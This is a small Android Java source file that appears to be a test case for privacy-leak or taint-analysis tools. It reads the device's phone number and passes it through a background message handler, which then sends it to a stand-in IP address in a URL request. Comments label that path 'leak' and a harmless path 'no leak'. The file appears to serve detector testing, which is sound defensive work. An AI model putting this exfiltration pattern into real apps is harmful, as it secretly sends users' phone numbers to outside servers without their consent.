package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.os.Handler;
import android.os.HandlerThread;
import android.os.Looper;
import android.os.Message;
import android.telephony.TelephonyManager;
import java.net.URL;

/** A thread of its own that takes messages. */
public class Messages extends Activity {
    static final class Sender extends Handler {
        Sender(Looper looper) {
            super(looper);
        }

        @Override
        public void handleMessage(Message message) {
            try {
                switch (message.what) {
                    case 1:
                        new URL("http://203.0.113.3/m/" + message.getData().getString("n")).openStream(); // leak
                        break;
                    case 2:
                        new URL("http://203.0.113.3/h/" + message.obj).openStream(); // no leak
                        break;
                    default:
                }
            } catch (Exception ignored) {
            }
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        HandlerThread thread = new HandlerThread("sender");
        thread.start();
        Sender sender = new Sender(thread.getLooper());
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        Message first = sender.obtainMessage(1);
        Bundle data = new Bundle();
        data.putString("n", phone.getLine1Number());
        first.setData(data);
        sender.sendMessageDelayed(first, 1000);
        Message.obtain(sender, 2, "hello").sendToTarget();
    }
}
